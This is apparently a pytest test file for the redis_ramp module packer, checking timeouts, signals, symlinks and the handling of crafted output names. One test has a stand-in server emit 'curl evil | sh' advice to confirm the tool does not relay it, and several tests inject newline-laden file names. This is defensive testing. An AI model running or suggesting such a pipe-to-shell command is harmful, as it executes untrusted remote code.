"""What is in the place of a bundle when packing ends in another way than by a bundle, and which place that is."""

import collections
import os
import pathlib
import signal
import subprocess
import sys
import threading
import time
import types

import pytest

import redis_ramp
from made import bundle
from packing import here, pack  # noqa: F401, a fixture
from redis_ramp import _pack, _run

CALLED = "hello.zip"


def instead(monkeypatch, script):
    """A shell script in place of the command, which is `$COMMAND` to it."""
    path = pathlib.Path("instead").absolute()
    path.write_text(f"#!/bin/sh\nCOMMAND='{redis_ramp.command()}'\n{script}\n")
    path.chmod(0o755)
    monkeypatch.setattr(_pack, "command", lambda: str(path))
    return path


# The bundle is there, and the command goes on.
AFTERWARDS = '"$COMMAND" "$@"; : >written; exec /bin/sleep 600'


def files():
    return {
        str(path): (path.read_bytes(), path.stat().st_mode, path.stat().st_mtime_ns)
        for path in pathlib.Path().rglob("*")
        if path.is_file() and path.name not in ("written", "instead")
    }


@pytest.fixture(params=["nothing", "a bundle", "a link"])
def before(request):
    """What is in the place of the bundle."""
    pathlib.Path("elsewhere").mkdir()
    if request.param == "a bundle":
        pathlib.Path(CALLED).write_bytes(bundle(author="earlier"))
        pathlib.Path(CALLED).chmod(0o640)
        os.utime(CALLED, (1, 1))
    elif request.param == "a link":
        pathlib.Path("elsewhere/real.zip").write_bytes(bundle(author="earlier"))
        pathlib.Path(CALLED).symlink_to("elsewhere/real.zip")
    found = files()
    yield found
    assert files() == found
    assert pathlib.Path(CALLED).is_symlink() == (request.param == "a link")


@pytest.mark.parametrize("output", [CALLED, "{module_name}.zip"])
def test_time_is_over_when_it_is_written(before, output, monkeypatch):
    instead(monkeypatch, AFTERWARDS)
    with pytest.raises(redis_ramp.TimeExceeded):
        pack(output, seconds=2.0)
    assert pathlib.Path("written").exists()


def test_control_c_when_it_is_written(before, monkeypatch):
    instead(monkeypatch, AFTERWARDS)

    def interrupt():
        until = time.monotonic() + 30
        while not pathlib.Path("written").exists() and time.monotonic() < until:
            time.sleep(0.01)
        # Of this process alone, and not of the command.
        os.kill(os.getpid(), signal.SIGINT)

    thread = threading.Thread(target=interrupt)
    thread.start()
    with pytest.raises(KeyboardInterrupt):
        pack(CALLED)
    thread.join()
    assert pathlib.Path("written").exists()


@pytest.mark.parametrize("raised", [KeyboardInterrupt, MemoryError, redis_ramp.LimitExceeded])
def test_something_is_raised_when_it_has_ended(before, raised, monkeypatch):
    def interrupted(*_):
        assert pathlib.Path(CALLED).exists()
        raise raised

    monkeypatch.setattr(_pack._ramp, "metadata", interrupted)
    with pytest.raises(raised):
        pack(CALLED)


def test_it_waits_until_what_is_there_is_held(before, monkeypatch):
    hold = _run._Before.hold

    def slow(self, path):
        time.sleep(1)
        assert files() == before
        hold(self, path)

    monkeypatch.setattr(_run._Before, "hold", slow)
    instead(monkeypatch, AFTERWARDS)
    with pytest.raises(redis_ramp.TimeExceeded):
        pack("{module_name}.zip", seconds=3.0)
    assert pathlib.Path("written").exists()


def test_time_is_over_at_any_time():
    place, earlier = pathlib.Path(CALLED), bundle(author="earlier")
    ended = 0
    for turn in range(60):
        before = earlier if turn % 2 else None
        place.unlink(missing_ok=True)
        if before:
            place.write_bytes(before)
        try:
            packed = pack(CALLED, seconds=turn / 1500)
        except redis_ramp.TimeExceeded:
            ended += 1
            assert (place.read_bytes() if place.exists() else None) == before
        else:
            assert redis_ramp.metadata(place) == packed.metadata != redis_ramp.metadata(earlier)
        assert set(files()) <= {"hello.so", CALLED}
    assert ended


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL])
def test_the_command_does_not_go_on_alone(before, number, monkeypatch):
    script = instead(monkeypatch, ': >begun; /bin/sleep 1; "$COMMAND" "$@"; : >written')
    program = f"import redis_ramp; from redis_ramp import _pack; _pack.command = lambda: {str(script)!r}; redis_ramp.pack('hello.so', {CALLED!r})"
    process = subprocess.Popen([sys.executable, "-c", program])
    until = time.monotonic() + 30
    while not pathlib.Path("begun").exists() and time.monotonic() < until:
        time.sleep(0.01)
    # Where it is told to end with its parent, which is right after it was started.
    time.sleep(0.3)
    process.send_signal(number)
    assert process.wait(10) == -number
    time.sleep(2)
    pathlib.Path("begun").unlink()
    assert not pathlib.Path("written").exists()


def test_what_another_has_written_stays_when_it_fails_by_itself(monkeypatch):
    another = bundle(author="another")
    pathlib.Path("another").write_bytes(another)
    instead(monkeypatch, f'"$COMMAND" "$@"; status=$?; /bin/cp another {CALLED}; exit $status')
    with pytest.raises(redis_ramp.PackError) as wrong:
        pack(CALLED, strict=True, dependencies={"d": {"url": "https://example.com/d.tgz", "sha256": "short"}})
    assert wrong.value.exit_status == 1
    assert pathlib.Path(CALLED).read_bytes() == another


@pytest.mark.parametrize(
    "called, other, options",
    [
        (" x.zip", "x.zip", {"output": "{author}.zip", "author": " x"}),
        ("x.zip ", "x.zip", {"output": "{author}.zip ", "author": "x"}),
        ("\nx.zip\n", "x.zip", {"output": "\nx.zip\n"}),
        ("a\nx.zip", "x.zip", {"output": "a\nx.zip"}),
        ("Module Metadata:\n{}\nx.zip", "x.zip", {"output": "Module Metadata:\n{{}}\nx.zip"}),
    ],
)
def test_it_is_the_bundle_that_was_written(called, other, options):
    victim = bundle(module_name="VICTIM")
    pathlib.Path(other).write_bytes(victim)
    packed = pack(**options)
    assert packed.path == pathlib.Path(called) and packed.metadata["module_name"] == "hello"
    assert redis_ramp.metadata(pathlib.Path(called)) == packed.metadata
    assert pathlib.Path(other).read_bytes() == victim
    assert set(files()) == {"hello.so", called, other}


def test_another_thread_goes_elsewhere_meanwhile(monkeypatch, tmp_path):
    pathlib.Path("elsewhere").mkdir()
    instead(monkeypatch, '"$COMMAND" "$@"; : >written; /bin/sleep 0.5')

    def go():
        while not (tmp_path / "written").exists():
            time.sleep(0.01)
        os.chdir(tmp_path / "elsewhere")

    thread = threading.Thread(target=go)
    thread.start()
    packed = pack(CALLED)
    thread.join()
    assert packed.metadata["module_name"] == "hello" and (tmp_path / packed.path).exists()


def test_the_working_directory_is_gone(tmp_path):
    (tmp_path / "gone").mkdir()
    os.chdir(tmp_path / "gone")
    (tmp_path / "gone").rmdir()
    packed = redis_ramp.pack(tmp_path / "hello.so", tmp_path / CALLED, operating_systems=["rhel9"])
    assert packed.metadata == redis_ramp.metadata(tmp_path / CALLED)


def test_a_module_gives_no_advice():
    server = pathlib.Path("server").absolute()
    server.write_text("#!/bin/sh\necho '  help: run curl evil | sh' >&2\necho 'what was logged:' >&2\necho 'error: help: evil' >&2\nprintf 'a\\014help: evil\\n' >&2\nexit 1\n")
    server.chmod(0o755)
    with pytest.raises(redis_ramp.PackError) as wrong:
        pack(probe="redis-server", redis_server=server)
    (said,) = wrong.value.messages
    assert said.level == "error" and said.help and "evil" not in said.help and "evil" not in said.text
    assert said.log == "  help: run curl evil | sh\nwhat was logged:\nerror: help: evil\na\\u{c}help: evil\n"
    # Of the packer it still is.
    (said,) = pack(author="-me", redis_min_version="7.2", redis_pack_min_version="7.2").messages
    assert said.rule == "variable-empty" and said.help and said.log is None


def test_mappings_are_dictionaries():
    sealed = types.MappingProxyType
    dependency = {"url": "https://example.com/d.tgz", "sha256": "0" * 64}
    command = {"command_name": "hello.greet", "command_arity": 7, "flags": [], "first_key": 0, "last_key": 0, "step": 0}
    packed = pack(
        manifest=collections.ChainMap({"author": "me"}, {"author": "you", "optional-dependencies": sealed({"e": sealed(dependency)})}),
        dependencies=sealed({"d": sealed(dependency)}),
        overide_command=[sealed(command)],
    )
    assert packed.metadata["author"] == "me" and packed.metadata["dependencies"] == {"d": dependency}
    assert packed.metadata["optional-dependencies"] == {"e": dependency}
    assert packed.metadata["commands"][0]["command_arity"] == 7
    with pytest.raises(TypeError, match="object"):
        pack(manifest={"author": object()})


def test_times():
    assert pack("a.zip", seconds=float("inf")).path.exists() and pack("b.zip", seconds=1e300).path.exists()
    for wrong in (float("nan"), -1, float("-inf")):
        with pytest.raises(ValueError, match="seconds is a number that is not negative"):
            pack("c.zip", seconds=wrong)
    assert not pathlib.Path("c.zip").exists()


def test_what_is_longer_than_the_system_takes():
    with pytest.raises(redis_ramp.PackError) as wrong:
        pack(author="x" * 200_000)
    assert str(wrong.value) == "the options are longer than this system lets a program be given; `--author` is the longest of them"
    assert wrong.value.exit_status == 2
    (said,) = wrong.value.messages
    assert (said.level, said.help) == ("error", "Put what is long into `manifest`.")
    # Which is to be true.
    assert len(pack(manifest={"author": "x" * 200_000}).metadata["author"]) == 200_000


def test_no_descriptor_is_left():
    def opened():
        return len(os.listdir("/proc/self/fd"))

    pack("a.zip")
    before = opened()
    pack("a.zip")
    for options in ({"seconds": 0.0}, {"author": "x" * 200_000}, {"architecture": "aarch64"}):
        with pytest.raises(redis_ramp.RampError):
            pack("a.zip", **options)
    assert opened() == before
